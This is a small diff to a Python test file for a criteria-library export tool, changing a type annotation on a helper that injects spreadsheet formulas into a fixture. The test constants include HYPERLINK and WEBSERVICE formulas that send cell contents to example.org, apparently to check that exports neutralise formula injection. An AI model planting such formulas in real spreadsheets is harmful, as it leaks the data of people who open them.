@@ -22,7 +22,7 @@ from openpyxl import load_workbook
 from kravbanken.downloads import make
 from kravbanken.downloads.tables import criteria_csv, criteria_xlsx, table
 from kravbanken.downloads.word import criterion_docx
-from kravbanken.model import load_library
+from kravbanken.model import Library, load_library
 
 FIXTURE = Path(__file__).parent / "fixtures" / "TST-001.yaml"
 SITE_URL = "https://kravbanken.se/"
@@ -31,7 +31,7 @@ TITLE = '=HYPERLINK("https://example.org/?leak="&A2,"Klicka här")'
 VERIFICATION = '=WEBSERVICE("https://example.org/?q="&B2)'
 
 
-def hostile(project: Path) -> dict:
+def hostile(project: Path) -> Library:
     """The library of `project` with TST-001 carrying formulas in its title, verification and tags."""
     text = FIXTURE.read_text(encoding="utf-8")
     text = text.replace("  sv: Testkrav om arbetsvillkor", f"  sv: '{TITLE}'")
